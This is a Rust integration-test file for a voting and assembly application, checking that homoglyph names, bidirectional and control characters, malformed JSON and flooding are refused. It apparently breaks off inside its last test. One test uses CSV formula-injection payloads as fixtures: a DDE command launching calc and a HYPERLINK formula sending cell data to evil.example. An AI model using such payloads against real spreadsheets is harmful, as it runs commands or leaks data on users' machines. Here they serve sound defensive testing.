//! What clients can write (issue 14): look-alike names, control and format
//! characters on every path (API bodies, page forms, the register file, the
//! command line's use cases), numbers out of range, and how much one
//! organisation may write.

use crate::common;
use plenum::domain::assembly::AttendanceMode;

use common::{network, Network, TestDb, PASSWORD};
use reqwest::blocking::{Client, Response};
use serde_json::{json, Value};

/// A browser without JavaScript: forms, cookies, the CSRF token.
struct Browser {
    base: String,
    client: Client,
    csrf: String,
}

impl Browser {
    fn login(n: &Network, email: &str, page: &str) -> Browser {
        let client = common::client();
        let base = n.app.base.clone();
        let token = |html: &str| -> String {
            let doc = scraper::Html::parse_document(html);
            let sel = scraper::Selector::parse("input[name=csrf]").expect("selector");
            doc.select(&sel).next().and_then(|e| e.value().attr("value")).expect("csrf input").to_string()
        };
        let login = client.get(format!("{base}/login")).send().expect("GET").text().expect("body");
        let res = client
            .post(format!("{base}/login"))
            .form(&[("csrf", token(&login).as_str()), ("email", email), ("password", PASSWORD)])
            .send()
            .expect("POST");
        assert_eq!(res.status(), 303, "login {email}");
        let html = client.get(format!("{base}{page}")).send().expect("GET").text().expect("body");
        Browser { base, client, csrf: token(&html) }
    }

    fn post(&self, path: &str, form: &[(&str, &str)]) -> Response {
        let mut fields = vec![("csrf", self.csrf.as_str())];
        fields.extend_from_slice(form);
        self.client.post(format!("{}{path}", self.base)).form(&fields).send().expect("POST")
    }

    fn get(&self, path: &str) -> String {
        self.client.get(format!("{}{path}", self.base)).send().expect("GET").text().expect("body")
    }
}

fn org_names(n: &Network) -> Vec<String> {
    let (_, orgs) = n.chair.get("/api/v1/organisations");
    orgs.as_array().map(|a| a.iter().filter_map(|o| o["name"].as_str().map(String::from)).collect()).unwrap_or_default()
}

fn org_id(n: &Network, name: &str) -> i64 {
    let (_, orgs) = n.chair.get("/api/v1/organisations");
    orgs.as_array()
        .and_then(|a| a.iter().find(|o| o["name"] == name))
        .and_then(|o| o["id"].as_i64())
        .unwrap_or_else(|| panic!("no organisation {name:?}"))
}

fn events(n: &Network, kind: &str) -> Vec<Value> {
    let (_, body) = n.chair.get("/api/v1/audit/events?limit=100000");
    body["events"].as_array().map(|a| a.iter().filter(|e| e["kind"] == kind).cloned().collect()).unwrap_or_default()
}

const CYRILLIC_COCOA: &str = "\u{421}\u{43E}\u{441}\u{43E}\u{430}";

fn lookalike_organisations_are_refused(db: TestDb) {
    let n = network(db);
    let create =
        |name: &str| n.chair.post("/api/v1/organisations", json!({"name": name, "country": "FR", "kind": "full"}));
    assert_eq!(create("Café Society").0, 201);
    // A bilingual name keeps each word in one script: fine.
    assert_eq!(create("Ελληνική Ένωση - Hellenic Union").0, 201);
    assert_eq!(create("Cocoa").0, 201);
    assert_eq!(create("Mopa Tek").0, 201);
    for (name, status, code) in [
        ("Cafe\u{301} Society", 409, "duplicate_organisation"),
        ("CAFÉ   SOCIETY", 409, "duplicate_organisation"),
        ("alpha network", 409, "duplicate_organisation"),
        ("Alpha\u{200B} Network", 422, "invalid_text"),
        ("\u{2060}Alpha Network", 422, "invalid_text"),
        ("\u{410}lpha Network", 422, "mixed_scripts"),
        ("Alpha \u{39D}etwork", 422, "mixed_scripts"),
        (CYRILLIC_COCOA, 409, "lookalike_organisation"),
        ("Alpha Netw0rk", 409, "lookalike_organisation"),
        // An outside review's: a dot below, a trailing leader dot, a dash.
        ("Alpha Netwo\u{323}rk", 409, "lookalike_organisation"),
        ("Alpha Network\u{2024}", 409, "lookalike_organisation"),
        ("Alpha-Network", 409, "lookalike_organisation"),
        // Another's: a capital I for an l, vv for w.
        ("AIpha Network", 409, "lookalike_organisation"),
        ("Alpha Netvvork", 409, "lookalike_organisation"),
        // Another's: whole names in Greek or Cyrillic capitals.
        ("ΜΟΡΑ ΤΕΚ", 409, "lookalike_organisation"),
        ("МОРА ТЕК", 409, "lookalike_organisation"),
        ("ΑLPΗΑ ΝΕΤWΟRΚ", 422, "mixed_scripts"),
    ] {
        let (got, body) = create(name);
        assert_eq!((got, body["error"].as_str()), (status, Some(code)), "{name:?}: {body}");
    }
    let (_, body) = create("Alpha\u{200B} Network");
    let message = body["message"].as_str().unwrap_or_default();
    assert!(message.contains("name") && message.contains("U+200B"), "{message}");
    let (_, body) = create(CYRILLIC_COCOA);
    assert!(body["message"].as_str().unwrap_or_default().contains("Cocoa"), "{body}");

    // The page's form: the same rules.
    let chair = Browser::login(&n, "chair@example.org", "/admin");
    for (name, status) in
        [("Cafe\u{301} Society", 409), ("Beta\u{200B} Forum", 422), ("\u{202E}Forum", 422), ("B\u{435}ta Forum", 422)]
    {
        let res = chair.post("/admin/organisations", &[("name", name), ("country", "FR"), ("kind", "full")]);
        assert_eq!(res.status().as_u16(), status, "{name:?}");
    }
    assert_eq!(org_names(&n).len(), 8, "{:?}", org_names(&n));
}

fn the_register_matches_names_as_people_read_them(db: TestDb) {
    let n = network(db);
    let composed = "name,country,kind\nCafé Society,FR,full\nÉcole Réseau,FR,full\nŠkoda Klub,CZ,full\n";
    let (status, report) = n.chair.post_csv("/api/v1/organisations/import", composed);
    assert_eq!((status, report["created"].as_u64()), (200, Some(3)), "{report}");
    let quorum =
        |n: &Network| n.chair.get(&format!("/api/v1/assemblies/{}/quorum", n.assembly)).1["full_members"].clone();
    let full_before = quorum(&n);

    // The same file saved decomposed (NFD): nothing new, the quorum unchanged.
    let decomposed = "name,country,kind\nCafe\u{301} Society,FR,full\nE\u{301}cole Re\u{301}seau,FR,full\nS\u{30C}koda Klub,CZ,full\n";
    let (status, report) = n.chair.post_csv("/api/v1/organisations/import", decomposed);
    assert_eq!((status, report["created"].as_u64(), report["unchanged"].as_u64()), (200, Some(0), Some(3)), "{report}");
    assert_eq!(quorum(&n), full_before);
    // And through the page.
    let chair = Browser::login(&n, "chair@example.org", "/admin");
    let res = chair.post("/admin/import", &[("csv", decomposed)]);
    assert_eq!(res.status(), 200);
    assert!(res.text().unwrap_or_default().contains("Imported: 0 created, 0 updated, 3 unchanged."));
    assert_eq!(org_names(&n).len(), 7);

    // Invisible and control characters and look-alikes: refused by line.
    let bad = "name,country,kind\nZeta\u{200B} Union,BE,full\nEta\u{202E} Union,BE,full\nNul\u{0}Union,BE,full\n\u{410}lpha Union,BE,full\nTheta Union,BE,full\nTHETA UNION,BE,full\n";
    n.chair.ok("/api/v1/organisations", json!({"name": "Cocoa", "country": "BE", "kind": "full"}), 201);
    let (status, body) = n.chair.post_csv("/api/v1/organisations/import", bad);
    assert_eq!((status, body["error"].as_str()), (422, Some("invalid_rows")), "{body}");
    let lines: Vec<(u64, String)> = body["errors"]
        .as_array()
        .map(|a| {
            a.iter().map(|e| (e["line"].as_u64().unwrap_or(0), e["message"].as_str().unwrap_or("").into())).collect()
        })
        .unwrap_or_default();
    assert_eq!(lines.iter().map(|l| l.0).collect::<Vec<_>>(), vec![2, 3, 4, 5, 7], "{body}");
    assert!(lines[0].1.contains("U+200B") && lines[1].1.contains("U+202E") && lines[2].1.contains("U+0000"), "{body}");
    assert!(lines[4].1.contains("line 6"), "{body}");
    let res = chair.post("/admin/import", &[("csv", bad)]);
    assert_eq!(res.status(), 422);
    // A name that only looks like a registered one (Cyrillic letters).
    let (status, body) =
        n.chair.post_csv("/api/v1/organisations/import", &format!("name,country,kind\n{CYRILLIC_COCOA},BG,full\n"));
    assert_eq!((status, body["error"].as_str()), (422, Some("invalid_rows")), "{body}");
    assert!(body["errors"][0]["message"].as_str().unwrap_or("").contains("Cocoa"), "{body}");
    assert_eq!(org_names(&n).len(), 8, "nothing imported");

    // Two registered names that differ only by case (as older versions
    // allowed): a line with exactly one of them updates that one; a line
    // matching both, exactly neither, is refused.
    {
        use diesel::connection::SimpleConnection;
        let mut conn = n.app.services.conn().expect("connection");
        conn.batch_execute(
            "INSERT INTO organisations (name, country, kind, status, created_at) \
             VALUES ('ALPHA NETWORK', 'BE', 'full', 'active', '2026-05-16 09:00:00')",
        )
        .expect("insert");
    }
    let (status, report) =
        n.chair.post_csv("/api/v1/organisations/import", "name,country,kind\nALPHA NETWORK,BE,affiliate\n");
    assert_eq!((status, report["updated"].as_u64()), (200, Some(1)), "{report}");
    let (_, orgs) = n.chair.get("/api/v1/organisations");
    let kind_of = |name: &str| {
        orgs.as_array().and_then(|a| a.iter().find(|o| o["name"] == name)).map(|o| o["kind"].clone()).expect("org")
    };
    assert_eq!((kind_of("ALPHA NETWORK"), kind_of("Alpha Network")), (json!("affiliate"), json!("full")));
    let (status, body) =
        n.chair.post_csv("/api/v1/organisations/import", "name,country,kind\nalpha network,BE,affiliate\n");
    assert_eq!((status, body["error"].as_str()), (422, Some("invalid_rows")), "{body}");
    assert!(body["errors"][0]["message"].as_str().unwrap_or("").contains("several"), "{body}");
    let _ = org_id(&n, "Alpha Network");
}

fn control_characters_are_refused_on_every_path(db: TestDb) {
    let n = network(db);
    let a = n.assembly;
    // API bodies: any text field, named in the answer.
    let motions = format!("/api/v1/assemblies/{a}/motions");
    for (body, field) in [
        (json!({"title": "Budget\u{202E}2027"}), "title"),
        (json!({"title": "Budget", "text": "ring \u{7} the bell"}), "text"),
        (json!({"title": "Budget", "text": "C1 \u{9B} control"}), "text"),
        (json!({"title": "Budget", "text": "isolate \u{2066}x\u{2069}"}), "text"),
        (json!({"title": "Two\nlines"}), "title"),
        // Symbols that draw nothing, padding a name (an outside review).
        (json!({"title": "Budget\u{1D159}\u{1D159}"}), "title"),
        (json!({"title": "Budget\u{FFFC}"}), "title"),
    ] {
        let (status, out) = n.chair.post(&motions, body.clone());
        assert_eq!((status, out["error"].as_str()), (422, Some("invalid_text")), "{body}: {out}");
        assert!(out["message"].as_str().unwrap_or("").contains(field), "{out}");
    }
    n.chair.ok(&motions, json!({"title": "Budget", "text": "Line one\n\tindented\r\nline three"}), 201);
    let agenda = format!("/api/v1/assemblies/{a}/agenda");
    let (status, out) =
        n.chair.post(&agenda, json!({"title": "Any\nother business", "kind": "discussion", "reason": "r"}));
    assert_eq!((status, out["error"].as_str()), (422, Some("invalid_text")), "{out}");
    let (status, out) =
        n.chair.post(&agenda, json!({"title": "Any other business", "kind": "discussion", "reason": "r\u{202E}"}));
    assert_eq!((status, out["error"].as_str()), (422, Some("invalid_text")), "{out}");
    let (status, out) = n.delegates[2].post(
        &format!("/api/v1/assemblies/{a}/proxies"),
        json!({"grantor_id": n.orgs[2], "holder_id": n.orgs[0], "document": "proxy\nform.pdf"}),
    );
    assert_eq!((status, out["error"].as_str()), (422, Some("invalid_text")), "{out}");
    let (status, out) = n.chair.post(
        &format!("/api/v1/assemblies/{a}/elections"),
        json!({"title": "Board", "seats": 1, "candidates": [{"name": "Ana"}, {"name": "Jo\u{202E}nas"}]}),
    );
    assert_eq!((status, out["error"].as_str()), (422, Some("invalid_text")), "{out}");
    assert!(out["message"].as_str().unwrap_or("").contains("candidates[1].name"), "{out}");
    let (status, out) = n.chair.post(
        "/api/v1/accounts",
        json!({"email": "x@example.org", "name": "X\u{200F}", "password": PASSWORD, "role": "auditor"}),
    );
    assert_eq!((status, out["error"].as_str()), (422, Some("invalid_text")), "{out}");

    // Page forms: the organisation, the narrative and the incidents.
    let chair = Browser::login(&n, "chair@example.org", "/admin");
    for name in ["Nul\u{0}Network", "Bell\u{7}Network", "Escape\u{1B}[31mNetwork"] {
        let res = chair.post("/admin/organisations", &[("name", name), ("country", "BE"), ("kind", "full")]);
        assert_eq!(res.status(), 422, "{name:?}");
        assert!(res.text().unwrap_or_default().contains("name"));
    }
    n.chair.ok(&format!("/api/v1/assemblies/{a}/transition"), json!({"to": "closed"}), 200);
    let minutes = format!("/chair/assemblies/{a}/minutes");
    let incidents = format!("/chair/assemblies/{a}/incidents");
    for (path, field, text) in [
        (&minutes, "narrative", "The chair \u{0} thanked the hosts."),
        (&minutes, "narrative", "The chair thanked \u{202E}the hosts."),
        (&incidents, "body", "A fire drill \u{202E}at 11:10."),
        (&incidents, "body", "A fire drill\u{0}"),
    ] {
        let res = chair.post(path, &[(field, text)]);
        assert_eq!(res.status(), 422, "{path} {text:?}");
    }
    let res = chair.post(&incidents, &[("body", "A fire drill at 11:10.\r\nAll back at 11:25.")]);
    assert_eq!(res.status(), 303);
    let md = chair.get(&format!("/exports/assemblies/{a}/minutes.md"));
    assert!(md.contains("A fire drill at 11:10.") && !md.contains('\u{202E}') && !md.contains('\0'), "{md}");

    // The command line's register import (the same use case, no caller).
    let report =
        n.app.services.import_register(None, "name,country,kind\nCli\u{0}Union,BE,full\n", &|_, _| {}).expect("import");
    assert_eq!(report.errors.len(), 1, "{report:?}");
    assert!(!org_names(&n).iter().any(|o| o.contains('\0') || o.contains('\u{202E}')));
}

fn numbers_and_blank_names_are_bounded(db: TestDb) {
    let n = network(db);
    let a = n.assembly;
    let elections = format!("/api/v1/assemblies/{a}/elections");
    for (body, status, code) in [
        (json!({"title": "Board", "seats": 3_000_000_000u32, "candidates": [{"name": "Ana"}]}), 422, "invalid_seats"),
        (
            json!({"title": "Board", "seats": 3, "candidates": [{"name": "Ana"}, {"name": "Jonas"}]}),
            422,
            "invalid_seats",
        ),
        (json!({"title": "Board", "seats": 1, "candidates": [{"name": "Ana"}, {"name": "   "}]}), 422, "invalid_text"),
        (json!({"title": "Board", "seats": 1, "candidates": [{"name": "Ana"}, {"name": ""}]}), 422, "invalid_text"),
        (json!({"title": "Board", "seats": 1, "candidates": [{"name": "Ana"}, {"name": " . "}]}), 422, "invalid_text"),
        (
            json!({"title": "Board", "seats": 1, "candidates": [{"name": "Ana"}, {"name": "ANA"}]}),
            409,
            "duplicate_candidate",
        ),
        (
            json!({"title": "Board", "seats": 1, "candidates": [{"name": "Ana"}, {"name": "An\u{430}"}]}),
            422,
            "mixed_scripts",
        ),
    ] {
        let (got, out) = n.chair.post(&elections, body.clone());
        assert_eq!((got, out["error"].as_str()), (status, Some(code)), "{body}: {out}");
    }
    n.chair.ok(
        &elections,
        json!({"title": "Board", "seats": 2, "candidates": [{"name": "Ana"}, {"name": "Jonas"}]}),
        201,
    );
    let motions = format!("/api/v1/assemblies/{a}/motions");
    let big = 3_000_000_000u32;
    for body in [
        json!({"title": "M", "majority": {"numerator": big, "denominator": big, "strict": false, "base": "votes_cast", "tie": "rejected"}}),
        json!({"title": "M", "quorum": {"numerator": 1, "denominator": big, "strict": false}}),
    ] {
        let (got, out) = n.chair.post(&motions, body.clone());
        assert_eq!((got, out["error"].as_str()), (422, Some("out_of_range")), "{body}: {out}");
    }
}

fn spreadsheet_formulas_stay_text(db: TestDb) {
    let n = network(db);
    let a = n.assembly;
    // Names never begin a formula; titles and documents are made text in
    // the CSV exports.
    let (status, out) = n.chair.post("/api/v1/organisations", json!({"name": "=1+1", "country": "BE", "kind": "full"}));
    assert_eq!((status, out["error"].as_str()), (422, Some("invalid_text")), "{out}");
    let (status, out) = n.chair.post_csv("/api/v1/organisations/import", "name,country,kind\n@SUM(A1),BE,full\n");
    assert_eq!((status, out["error"].as_str()), (422, Some("invalid_rows")), "{out}");
    n.check_in(0, AttendanceMode::Remote);
    n.delegates[2].ok(
        &format!("/api/v1/assemblies/{a}/proxies"),
        json!({"grantor_id": n.orgs[2], "holder_id": n.orgs[0], "document": "=cmd|' /C calc'!A0"}),
        201,
    );
    let title = "=HYPERLINK(\"http://evil.example/\"&A1,\"Budget\")";
    let motion = n.delegates[0].ok(&format!("/api/v1/assemblies/{a}/motions"), json!({"title": title}), 201);
    let motion = motion["id"].as_i64().expect("motion");
    for seconder in [1, 2] {
        n.delegates[seconder].ok(&format!("/api/v1/motions/{motion}/seconders"), json!({}), 201);
    }
    n.chair.ok(&format!("/api/v1/motions/{motion}/admission"), json!({"admit": true}), 200);
    let poll = n.chair.ok(&format!("/api/v1/motions/{motion}/polls"), json!({}), 201)["id"].as_i64().expect("poll");
    n.delegates[0].ok(&format!("/api/v1/polls/{poll}/ballots"), json!({"choice": "yes"}), 201);
    n.chair.ok(&format!("/api/v1/polls/{poll}/close"), json!({}), 200);
    for file in ["roll-call.csv", "proxies.csv"] {
        let (status, csv) = n.chair.get_text(&format!("/api/v1/assemblies/{a}/exports/{file}"));
        assert_eq!(status, 200, "{file}: {csv}");
        for cell in csv.lines().flat_map(|l| l.split(',')) {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{file}: {cell:?} in {csv}");
        }
        assert!(csv.contains("'="), "{file}: {csv}");
    }
}

/// The defaults of config/default.toml.
const MAX_MOTIONS: usize = 20;
const MAX_OPINIONS: usize = 20;
const MAX_SPEAKER_REQUESTS: usize = 50;
const RECORDED_REFUSALS: usize = 5;
const MAX_PROXIES: usize = 20;

fn one_organisation_cannot_flood_the_record(db: TestDb) {
    let n = network(db);
    let a = n.assembly;
    let motions = format!("/api/v1/assemblies/{a}/motions");
    // Text sizes.
    let (status, out) = n.delegates[0].post(&motions, json!({"title": "Long", "text": "x".repeat(62_000)}));
    assert_eq!((status, out["error"].as_str()), (422, Some("text_too_long")), "{}", out["message"]);
    let (status, out) = n.delegates[0].post(&motions, json!({"title": "t".repeat(301)}));
    assert_eq!((status, out["error"].as_str()), (422, Some("text_too_long")), "{}", out["message"]);
    // Motions per organisation and assembly.
    let max = MAX_MOTIONS;
    for i in 0..max {
        n.delegates[0].ok(&motions, json!({"title": format!("Motion {i}"), "text": "Short."}), 201);
    }
    let (status, out) = n.delegates[0].post(&motions, json!({"title": "One more"}));
    assert_eq!((status, out["error"].as_str()), (429, Some("too_many_motions")), "{out}");
    assert!(out["message"].as_str().unwrap_or("").contains(&max.to_string()), "{out}");
    n.delegates[1].ok(&motions, json!({"title": "Another member's"}), 201);
    n.chair.ok(&motions, json!({"title": "The secretariat's"}), 201);
    // Opinions per affiliate and assembly.
    let motion = n.chair.ok(&motions, json!({"title": "Work plan"}), 201)["id"].as_i64().expect("id");
    let opinions = format!("/api/v1/motions/{motion}/opinions");
    let (status, out) = n.delegates[3].post(&opinions, json!({"text": "y".repeat(20_001)}));
    assert_eq!((status, out["error"].as_str()), (422, Some("text_too_long")), "{}", out["message"]);
    for i in 0..MAX_OPINIONS {
        n.delegates[3].ok(&opinions, json!({"text": format!("Opinion {i}")}), 201);
    }
    let (status, out) = n.delegates[3].post(&opinions, json!({"text": "One more"}));
    assert_eq!((status, out["error"].as_str()), (429, Some("too_many_opinions")), "{out}");
    // Requests to speak: asking and withdrawing over and over.
    let list = format!("/api/v1/assemblies/{a}/speakers");
    for _ in 0..MAX_SPEAKER_REQUESTS {
        let queue = n.delegates[1].ok(&list, json!({}), 201);
        let id = queue.as_array().and_then(|l| l.last()).and_then(|s| s["id"].as_i64()).expect("id");
        assert_eq!(n.delegates[1].delete(&format!("/api/v1/speakers/{id}")).0, 200);
    }
    let (status, out) = n.delegates[1].post(&list, json!({}));
    assert_eq!((status, out["error"].as_str()), (429, Some("too_many_speaker_requests")), "{out}");
    let delegate = Browser::login(&n, "d1@example.org", "/delegate");
    assert_eq!(delegate.post("/delegate/speak", &[]).status(), 429);
    // Proxies: giving and revoking over and over.
    let proxies = format!("/api/v1/assemblies/{a}/proxies");
    let grant = json!({"grantor_id": n.orgs[2], "holder_id": n.orgs[0]});
    for _ in 0..MAX_PROXIES {
        let id = n.delegates[2].ok(&proxies, grant.clone(), 201)["id"].as_i64().expect("proxy");
        assert_eq!(n.delegates[2].delete(&format!("/api/v1/proxies/{id}")).0, 200);
    }
    let (status, out) = n.delegates[2].post(&proxies, grant);
    assert_eq!((status, out["error"].as_str()), (429, Some("too_many_proxies")), "{out}");
    // Refused ballots: answered every time, recorded only up to the limit.
    n.check_in(3, AttendanceMode::Remote);
    let poll = n.chair.ok(&format!("/api/v1/motions/{motion}/polls"), json!({}), 201)["id"].as_i64().expect("poll");
    let before = events(&n, "ballot.refused").len();
    for _ in 0..40 {
        let (status, out) = n.delegates[3].post(&format!("/api/v1/polls/{poll}/ballots"), json!({"choice": "yes"}));
        assert_eq!((status, out["error"].as_str()), (403, Some("affiliate_cannot_vote")), "{out}");
    }
    let kept = RECORDED_REFUSALS;
    assert_eq!(events(&n, "ballot.refused").len() - before, kept);
    // In an election round too; refusals arriving together are each
    // answered and counted.
    let e = n.chair.ok(
        &format!("/api/v1/assemblies/{a}/elections"),
        json!({"title": "Board", "seats": 1, "candidates": [{"name": "Ana"}, {"name": "Jonas"}]}),
        201,
    );
    let election = e["id"].as_i64().expect("election");
    let round = n.chair.ok(&format!("/api/v1/elections/{election}/rounds"), json!({}), 201)["rounds"][0]["id"]
        .as_i64()
        .expect("round");
    let before_round = events(&n, "ballot.refused").len();
    let barrier = std::sync::Arc::new(std::sync::Barrier::new(20));
    let statuses: Vec<u16> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..20)
            .map(|_| {
                let api = common::Api::with_token(&n.app.base, n.delegates[3].token.as_deref().expect("token"));
                let barrier = barrier.clone();
                s.spawn(move || {
                    barrier.wait();
                    api.post(&format!("/api/v1/rounds/{round}/ballots"), json!({"choices": []})).0
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().expect("thread")).collect()
    });
    assert!(statuses.iter().all(|s| *s == 403), "{statuses:?}");
    assert_eq!(events(&n, "ballot.refused").len() - before_round, kept);
    let before = before + kept;
    // Another organisation's refusals are counted apart.
    n.delegates[2].post(&format!("/api/v1/polls/{poll}/ballots"), json!({"choice": "yes"}));
    assert_eq!(events(&n, "ballot.refused").len() - before, kept + 1);
}

/// What held before issue 14, kept tried: a JSON body past the API's limit,
/// room counts that would overflow, a ledger page size out of range; and a
/// key given twice in a body.
fn oversized_bodies_and_counts_are_refused(db: TestDb) {
    let n = network(db);
    let a = n.assembly;
    let huge = "x".repeat(70 * 1024);
    let (status, body) = n.chair.post(&format!("/api/v1/assemblies/{a}/motions"), json!({"title": "M", "text": huge}));
    assert!((400..500).contains(&status), "a 70 KB body: {status} {body}");
    let (_, motions) = n.chair.get(&format!("/api/v1/assemblies/{a}/motions"));
    assert_eq!(motions.as_array().map(Vec::len), Some(0), "{motions}");

    n.desk.check_in(a, n.orgs[0], AttendanceMode::InPerson);
    let m = n.chair.ok(&format!("/api/v1/assemblies/{a}/motions"), json!({"title": "Work plan"}), 201);
    let poll =
        n.chair.ok(&format!("/api/v1/motions/{}/polls", m["id"]), json!({"ballot": "tellers"}), 201)["id"].clone();
    let big = 3_000_000_000u32;
    for counts in [json!({"yes": big, "no": 0, "abstain": 0}), json!({"yes": big, "no": big, "abstain": big})] {
        let mut body = counts.clone();
        body["organisation_ids"] = json!([n.orgs[0]]);
        let (status, out) = n.desk.post(&format!("/api/v1/polls/{poll}/tellers"), body);
        assert!((400..500).contains(&status), "{counts}: {status} {out}");
    }
    let (_, p) = n.chair.get(&format!("/api/v1/polls/{poll}"));
    assert_eq!(p["room"], serde_json::Value::Null, "{p}");

    // A key given twice is refused, not read as its last value (an outside
    // review created an organisation named by the second `name`).
    let token = n.chair.token.clone().expect("token");
    let res = n
        .chair
        .client
        .post(format!("{}/api/v1/organisations", n.app.base))
        .bearer_auth(&token)
        .header("content-type", "application/json")
        .body(r#"{"name":"Xeno Forum","country":"BE","kind":"full","name":"Yotta Forum"}"#)
        .send()
        .expect("request");
    assert_eq!(res.status().as_u16(), 400);
    let body: serde_json::Value = res.json().expect("json");
    assert_eq!(body["error"], "invalid_json", "{body}");
    assert!(body["message"].as_str().unwrap_or_default().contains("name"), "{body}");
    let (_, orgs) = n.chair.get("/api/v1/organisations");
    assert!(!orgs.to_string().contains("Yotta") && !orgs.to_string().contains("Xeno"), "{orgs}");

    for limit in ["0", "-1", "100000", "99999999999999999999"] {
        let (status, out) = n.chair.get(&format!("/api/v1/audit/events?limit={limit}"));
        assert!(status == 200 || status == 400, "limit={limit}: {status} {out}");
    }
}

/// Creating an assembly follows the same text rule as changing it: a line
/// break, a bidirectional override or a 301-character title is refused,
/// and nothing is made.
fn an_assembly_is_created_under_the_text_rule(db: TestDb) {
    let n = network(db);
    let long = "T".repeat(301);
    for (body, field) in [
        (json!({"title": "GA\n2027", "starts_at": "2027-05-16T09:00:00Z", "format": "hybrid"}), "title"),
        (json!({"title": &long, "starts_at": "2027-05-16T09:00:00Z", "format": "hybrid"}), "title"),
        (
            json!({"title": "GA", "venue": "Hall \u{202E}A", "starts_at": "2027-05-16T09:00:00Z", "format": "hybrid"}),
            "venue",
        ),
        (
            json!({"title": "GA", "starts_at": "2027-05-16T09:00:00Z", "format": "hybrid",
                "agenda": [{"title": "Opening\r\nClosing", "kind": "decision"}]}),
            "title of agenda item 1",
        ),
    ] {
        let (status, out) = n.chair.post("/api/v1/assemblies", body.clone());
        assert!(status == 422 || status == 400, "{body}: {status} {out}");
        assert!(out["message"].as_str().unwrap_or_default().contains(field), "{field}: {out}");
    }
    let (_, list) = n.chair.get("/api/v1/assemblies");
    assert_eq!(list.as_array().map(Vec::len), Some(1), "only the network's own assembly: {list}");
}

/// A body that may be left out is either left out (the default) or read
/// strictly: a malformed, misspelt, repeated or invisible-charactered body
/// is refused with nothing done, never taken for the default. An outside
/// review opened a public roll call from `{"ballot":"SECRET"}` and withdrew
/// a motion with its reason dropped.
fn a_bad_optional_body_is_refused_not_defaulted(db: TestDb) {
    let n = network(db);
    let a = n.assembly;
    let token = n.chair.token.clone().expect("token");
    let raw = |who: &str, path: &str, body: &str| -> u16 {
        n.chair
            .client
            .post(format!("{}{path}", n.app.base))
            .bearer_auth(who)
            .header("content-type", "application/json")
            .body(body.to_string())
            .send()
            .map(|r| r.status().as_u16())
            .unwrap_or(0)
    };
    let m = n.chair.ok(&format!("/api/v1/assemblies/{a}/motions"), json!({"title": "Statutes"}), 201)["id"].clone();
    let open = format!("/api/v1/motions/{m}/polls");
    for body in [
        r#"{"ballot":"SECRET"}"#,
        r#"{"ballot":"secret","ballot":"secret"}"#,
        r#"{"ballot":"secret" "#,
        r#"{"ballot":"secret\u200b"}"#,
        r#"{"balot":"secret"}"#,
        r#"{"ballot":"secret","extra":1}"#,
        "not json",
    ] {
        let status = raw(&token, &open, body);
        assert!((400..500).contains(&status), "{body}: {status}");
        let (_, motion) = n.chair.get(&format!("/api/v1/motions/{m}"));
        assert_eq!(motion["open_poll"], Value::Null, "{body} opened a poll: {motion}");
    }
    // Left out, the default: a roll call; given right, what it says.
    let poll = n.chair.ok(&open, json!({"ballot": "secret"}), 201);
    assert_eq!(poll["ballot"], "secret");
    let close = format!("/api/v1/polls/{}/close", poll["id"]);
    assert_eq!(raw(&token, &close, r#"{"chair_decison":"carried"}"#), 400);
    assert_eq!(n.chair.get(&format!("/api/v1/polls/{}", poll["id"])).1["state"], "open");
    let res = n.chair.client.post(format!("{}{close}", n.app.base)).bearer_auth(&token).send().expect("close");
    assert_eq!(res.status().as_u16(), 200, "no body: the default close");

    // A withdrawal's reason under the text rule, nothing withdrawn.
    let d0 = n.delegates[0].token.clone().expect("token");
    let own =
        n.delegates[0].ok(&format!("/api/v1/assemblies/{a}/motions"), json!({"title": "Mine"}), 201)["id"].clone();
    for body in [r#"{"reason":"a\u0000b"}"#, r#"{"reason":"a\u202eb"}"#, r#"{"reasn":"typo"}"#] {
        let status = raw(&d0, &format!("/api/v1/motions/{own}/withdraw"), body);
        assert!((400..500).contains(&status), "{body}: {status}");
        assert_ne!(n.chair.get(&format!("/api/v1/motions/{own}")).1["state"], "withdrawn", "{body}");
    }
    // Asking to speak for someone given as text: refused, nobody queued.
    assert_eq!(raw(&d0, &format!("/api/v1/assemblies/{a}/speakers"), r#"{"organisation_id":"1"}"#), 400);
    assert_eq!(n.chair.get(&format!("/api/v1/assemblies/{a}/speakers")).1, json!([]));
}

/// An address needs something on each side of its `@`; a noncharacter is
/// never text (an outside review stored `@x.eu` and U+FFFE).
fn addresses_and_noncharacters_are_refused(db: TestDb) {
    let n = network(db);
    for email in ["\u{a0}@x.eu", "@x.eu", "someone@", " @ "] {
        let (status, body) = n.chair.post(
            "/api/v1/accounts",
            json!({"email": email, "name": "Someone", "password": "a-long-password", "role": "teller"}),
        );
        assert_eq!((status, body["error"].as_str()), (400, Some("invalid_email")), "{email:?}: {body}");
    }
    let (status, body) =
        n.chair.post(&format!("/api/v1/assemblies/{}/incidents", n.assembly), json!({"body": "a\u{fffe}b"}));
    assert_eq!((status, body["error"].as_str()), (422, Some("invalid_text")), "{body}");
}

/// A misspelt field is refused, naming it, and nothing is done: read as
/// absent it would cast an empty ballot, the holder's own vote instead of
/// its grantor's, or "disable" an account that stays active (an outside
/// review did each).
fn a_misspelt_field_is_refused_not_ignored(db: TestDb) {
    let n = network(db);
    let a = n.assembly;
    n.check_in(0, AttendanceMode::Remote);
    let (_, round, ana) = n.open_board_round();
    let refused = |status: u16, body: &Value, field: &str| {
        assert_eq!((status, body["error"].as_str()), (400, Some("invalid_json")), "{body}");
        assert!(body["message"].as_str().unwrap_or("").contains(field), "{body}");
    };
    let (status, body) = n.delegates[0].post(&format!("/api/v1/rounds/{round}/ballots"), json!({"choises": [ana]}));
    refused(status, &body, "choises");
    let poll = n.open_poll("roll_call", "Accounts");
    let (status, body) =
        n.delegates[0].post(&format!("/api/v1/polls/{poll}/ballots"), json!({"choice": "no", "organisation": 5}));
    refused(status, &body, "organisation");
    // A body is an object with its names: the array of its fields, which
    // serde's derive also reads, is refused (break-it review of 2026-12-01).
    for array in [json!(["no"]), json!(["no", null, null])] {
        let (status, body) = n.delegates[0].post(&format!("/api/v1/polls/{poll}/ballots"), array);
        refused(status, &body, "sequence");
    }
    let (_, p) = n.chair.get(&format!("/api/v1/polls/{poll}"));
    assert_eq!(p["cast"], 0, "nothing was cast: {p}");
    let (_, e) = n
        .chair
        .get(&format!("/api/v1/elections/{}", n.chair.get(&format!("/api/v1/assemblies/{a}/elections")).1[0]["id"]));
    assert_eq!(e["rounds"][0]["cast"], 0, "nothing was cast: {e}");
